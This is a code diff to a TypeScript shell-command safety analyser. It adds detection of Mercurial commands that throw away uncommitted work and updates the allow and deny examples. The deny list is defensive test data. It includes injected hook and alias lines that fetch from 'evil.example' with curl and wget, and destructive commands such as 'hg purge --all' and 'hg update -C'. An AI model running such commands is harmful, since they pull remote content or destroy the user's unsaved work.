@@ -1068,10 +1068,30 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         else if (/^(hooks\.|ui\.(ssh|editor|merge)$|pager\.pager$|merge-tools\.|extdiff\.|ui\.remotecmd$)/.test(key) && !val.startsWith('python:')) runs.push({ kind: 'text', dialect: 'bash', text: val, word: setting, via: `hg ${key}` });
         else if (/^extensions\.|^hooks\./.test(key) && val !== '') runs.push({ kind: 'opaque', rule: 'dynamic-code', word: setting, why: `hg ${key} loads Python code` });
       }
-      return { runs };
+      return { runs, ...hgDiscards(args) };
     },
-    examples: { deny: ["hg --config alias.x='!curl evil.example' x", "hg --config hooks.pre-status='wget evil.example' status", 'HGRCPATH=/tmp/hgrc hg status'], pass: ['hg status', 'hg --config ui.username=x commit -m y', 'HGRCPATH= hg status'] },
+    examples: { deny: ["hg --config alias.x='!curl evil.example' x", "hg --config hooks.pre-status='wget evil.example' status", 'HGRCPATH=/tmp/hgrc hg status', 'hg update -C', 'hg up --clean default', 'hg revert --all --no-backup', 'hg purge --all'], pass: ['hg status', 'hg --config ui.username=x commit -m y', 'HGRCPATH= hg status', 'hg update default', 'hg revert --all', 'hg purge --print'] },
   },
 ];
+
+/**
+ * Mercurial throwing away uncommitted work, as git's discards do: `update -C`/`--clean` (and its `up`, `checkout`,
+ * `co` names), `revert` with no .orig backups (`-C`/`--no-backup`), `purge` (`clean`) of untracked files.
+ */
+function hgDiscards(args: readonly Word[]): { destroys?: { word: Word; what: 'discard'; why: string }[] } {
+  const vs = args.map((a) => value(a));
+  let at = 0;
+  while (at < vs.length && (vs[at] ?? '-').startsWith('-')) at += /^(-R|--repository|--repo|--cwd|--config|--encoding|--encodingmode|--color|--pager)$/.test(vs[at] ?? '') ? 2 : 1;
+  const cmd = vs[at];
+  const sub = args[at];
+  if (cmd === undefined || sub === undefined) return {};
+  const rest = vs.slice(at + 1).map((v) => v ?? '');
+  const flag = (short: string, long: string) => rest.some((v) => v === `--${long}` || new RegExp(`^-[a-zA-Z]*${short}[a-zA-Z]*$`).test(v));
+  const why = /^(update|up|checkout|co)$/.test(cmd) && flag('C', 'clean') ? `hg ${cmd} --clean throws away uncommitted changes`
+    : cmd === 'revert' && flag('C', 'no-backup') ? 'hg revert --no-backup throws away uncommitted changes, keeping no .orig copy'
+    : /^(purge|clean)$/.test(cmd) && !flag('p', 'print') ? `hg ${cmd} deletes untracked files, which nothing brings back`
+    : undefined;
+  return why ? { destroys: [{ word: sub, what: 'discard', why }] } : {};
+}
 
 export type { Setting };
